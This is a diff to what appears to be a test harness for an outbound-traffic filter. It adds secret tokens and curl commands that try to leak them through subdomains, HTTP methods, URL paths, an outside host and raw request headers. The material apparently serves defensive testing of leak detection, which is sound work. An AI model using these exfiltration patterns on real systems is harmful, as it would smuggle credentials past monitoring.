@@ -36,7 +36,7 @@ class Day:
 
     def __init__(self, online: Online, place: Path) -> None:
         self.online, self.place = online, place
-        self.now = {source: fresh() for source in SOURCES}
+        self.now = {source: fresh() for source in SOURCES} | {"printed": f"live-{secrets.token_hex(14)}"}  # also a name
         self.ever = set(self.now.values())
         self.said = b""
         self.write("printed")
@@ -89,6 +89,11 @@ def misdirect(day: Day) -> None:
             curl -sS -m 20 -L -H "X-Api-Key: $word" https://allowed.example/elsewhere
             curl -sS -m 20 -H "X-Api-Key: $word" "https://$word.allowed.example/"
         done
+        name={day.now["printed"]}
+        curl -sS -m 20 "https://$name.allowed.example/"
+        curl -sS -m 20 -X $name "https://allowed.example/$name"
+        curl -sS -m 20 -X $name "http://other.example/$name"
+        curl -sS -m 20 "http://$name/"
         printf 'GET / HTTP/1.1\\r\\nHost: allowed.example\\r\\n X: %s\\r\\n\\r\\n' "$KEY_FILED" >/tmp/raw
         openssl s_client -quiet -connect allowed.example:443 </tmp/raw
     """
